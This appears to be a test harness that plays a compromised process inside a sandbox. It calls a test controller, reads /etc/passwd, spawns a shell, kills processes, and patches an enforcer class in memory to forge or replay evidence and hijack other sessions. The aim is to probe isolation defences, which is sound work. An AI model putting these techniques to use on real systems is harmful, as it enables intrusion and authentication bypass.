/**
 * Code of an attacker inside a terminator, as a bug in a parser would let it in: loaded with the terminator's own code, it
 * waits until the process has given up what it gives up, calls home, and then tries what it is told to by name. Nothing
 * of the product helps it; it changes the product's classes in the memory that it shares with them.
 *
 * It runs as a copy below `src`, for a jail shows nothing else of the package: see `test/support/taken-over-package.ts`.
 */
import { spawnSync } from 'node:child_process';
import { createSocket } from 'node:dgram';
import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { connect, createServer } from 'node:net';
import { constants } from 'node:os';
import { createInterface } from 'node:readline';
import { reasonOf } from '../../../protocol/errors.ts';
import { sleep, systemClock } from '../../../src/base/clock.ts';
import type { AdmitInput } from '../../../src/enforcer/ports.ts';
import { RemoteEnforcer } from '../../../src/enforcer/process/remote-enforcer.ts';
import { type Findings, HOME, type Knowledge, type Try } from './home.ts';
import { CALL, call } from './system-calls.ts';
import { files, kernel, processes, sockets } from './ways-out.ts';

const PR_GET_NO_NEW_PRIVS = 39;
const admitted: AdmitInput[] = [];
let enforcer: RemoteEnforcer | undefined;
/** What becomes of the next evidence that comes, and who waits to hear how it went. */
let bend: { readonly change: (input: AdmitInput) => AdmitInput; readonly heard: (finding: string) => void } | undefined;
const { admit } = RemoteEnforcer.prototype;
RemoteEnforcer.prototype.admit = async function recorded(this: RemoteEnforcer, input) {
  remember(this, input);
  const bent = bend;
  bend = undefined;
  if (bent === undefined) return await admit.call(this, input);
  const attempt = admit.call(this, bent.change(input));
  bent.heard(await finding(() => attempt));
  return await attempt;
};
void takeOver();

function remember(through: RemoteEnforcer, input: AdmitInput): void {
  enforcer = through;
  admitted.push(input);
}

async function takeOver(): Promise<void> {
  // Of what a sandboxed process may ask about itself this is not one.
  while (call(CALL.prctl, PR_GET_NO_NEW_PRIVS) >= 0) await sleep(systemClock, 50);
  const home = connect({ host: HOME.address, port: HOME.port });
  home.on('error', () => undefined);
  // Told to go, it stays.
  process.exit = (() => undefined) as never;
  createInterface({ input: home }).on('line', (line) => {
    const [what = '', ...rest] = line.split(' ');
    const knowledge: Knowledge = JSON.parse(rest.join(' ') || '{}');
    void run(what, knowledge).then((findings) => home.write(`${what} ${JSON.stringify(findings)}\n`));
  });
  for (;;) await sleep(systemClock, 1_000);
}

async function run(what: string, knowledge: Knowledge): Promise<Findings> {
  switch (what) {
    case 'kernel':
      return await all(kernel(knowledge));
    case 'processes':
      return await all(processes(knowledge));
    case 'files':
      return await all(files(knowledge));
    case 'sockets':
      return await all(sockets(knowledge));
    case 'node':
      return await all(node(knowledge));
    case 'enforcer':
      return await all(border(knowledge));
    case 'forge':
      return { [what]: await bending((input) => ({ ...input, evidence: forged(input.evidence) })) };
    case 'renew':
      return { [what]: await bending((input) => ({ ...input, renews: knowledge.session })) };
    default:
      return { [what]: 'done: unknown' };
  }
}

// ── what Node offers ─────────────────────────────────────────────────────────────────────────────────────────

function node({ pids, paths, sockets: known }: Knowledge): Record<string, Try> {
  return {
    'a program': () => {
      const { error } = spawnSync('/bin/sh', ['-c', 'true']);
      if (error !== undefined) throw error;
    },
    'read a file': () => readFileSync(paths[0] ?? '/etc/passwd'),
    'write a file': () => writeFileSync('/tmp/x', 'x'),
    'list processes': () => readdirSync('/proc'),
    'its own status': () => readFileSync('/proc/self/status'),
    UDP: () => settledBy(createSocket('udp4').bind(0), 'listening'),
    'a listener': () => settledBy(createServer().listen(0), 'listening'),
    'the console': () => settledBy(connect({ path: known[0] ?? '' }), 'connect'),
    ...Object.fromEntries(pids.map((pid) => [`kill ${pid}`, () => process.kill(pid, 'SIGKILL')])),
    'code from text': () => Reflect.construct(Function, ['return 1']),
  };
}

// ── over the socket to the enforcer ──────────────────────────────────────────────────────────────────────────

/** It holds good evidence of peers that came to it, and may say what it likes in their sessions. */
function border({ session }: Knowledge): Record<string, Try> {
  const [genuine] = admitted;
  const own = enforcer;
  if (genuine === undefined || own === undefined) return { 'nobody came': () => undefined };
  const { evidence } = genuine;
  const other = admitted.at(-1) ?? genuine;
  const zero = new Uint8Array(32);
  const approach = {
    offer: genuine.offer,
    evidence,
    responderTranscript: zero,
    responderStaticKey: zero,
    transcript: zero,
    staticKey: zero,
    ephemeralKey: zero,
    expectedId: 'spiffe://site-a.test/gateway',
    request: { capabilities: [], targets: [], advertise: [] },
  };
  return {
    'replayed evidence': () => own.admit(genuine),
    'replayed evidence for the session of another terminator': () => own.admit({ ...genuine, renews: session }),
    'forged evidence': () => own.admit({ ...genuine, evidence: forged(evidence) }),
    'evidence of another session': () => own.admit({ ...genuine, transcript: other.transcript, handshakeHash: zero }),
    'an approach that nobody configured': () => own.approach(approach),
    'whether the session of another terminator may be renewed': () => own.mayRenew(session).then(() => ignored()),
    // Answered as if done: these are not its to change, and whose they are it is not told.
    'release of the session of another terminator': () => own.release(session, 'CLOSED').then(() => ignored()),
    'another level for the session of another terminator': () => own.setPeerLevel(session, 1).then(() => ignored()),
  };
}

/** How it goes with the next evidence that a peer brings, fresh and good, when it is changed on the way. */
function bending(change: (input: AdmitInput) => AdmitInput): Promise<string> {
  return new Promise((heard) => {
    bend = { change, heard };
  });
}

function forged(evidence: AdmitInput['evidence']): AdmitInput['evidence'] {
  return { ...evidence, signature: new Uint8Array(evidence.signature.length) };
}

function ignored(): never {
  throw Object.assign(new Error('ignored'), { code: 'IGNORED' });
}

// ── how it is told ───────────────────────────────────────────────────────────────────────────────────────────

async function all(attempts: Record<string, Try>): Promise<Findings> {
  const findings: Record<string, string> = {};
  for (const [name, attempt] of Object.entries(attempts)) findings[name] = await finding(attempt);
  return findings;
}

async function finding(attempt: Try): Promise<string> {
  try {
    const answer = await attempt();
    if (typeof answer === 'number' && answer < 0) return errorNamed(-answer);
    return `done: ${String(answer).slice(0, 60)}`;
  } catch (error) {
    if (error instanceof EvalError) return 'EvalError';
    return error instanceof Error && 'code' in error ? String(error.code) : reasonOf(error);
  }
}

function errorNamed(errno: number): string {
  return Object.entries(constants.errno).find(([, number]) => number === errno)?.[0] ?? `errno ${errno}`;
}

function settledBy(emitter: NodeJS.EventEmitter, event: string): Promise<unknown> {
  return new Promise((resolve, reject) => {
    emitter.once(event, resolve);
    emitter.once('error', reject);
  });
}
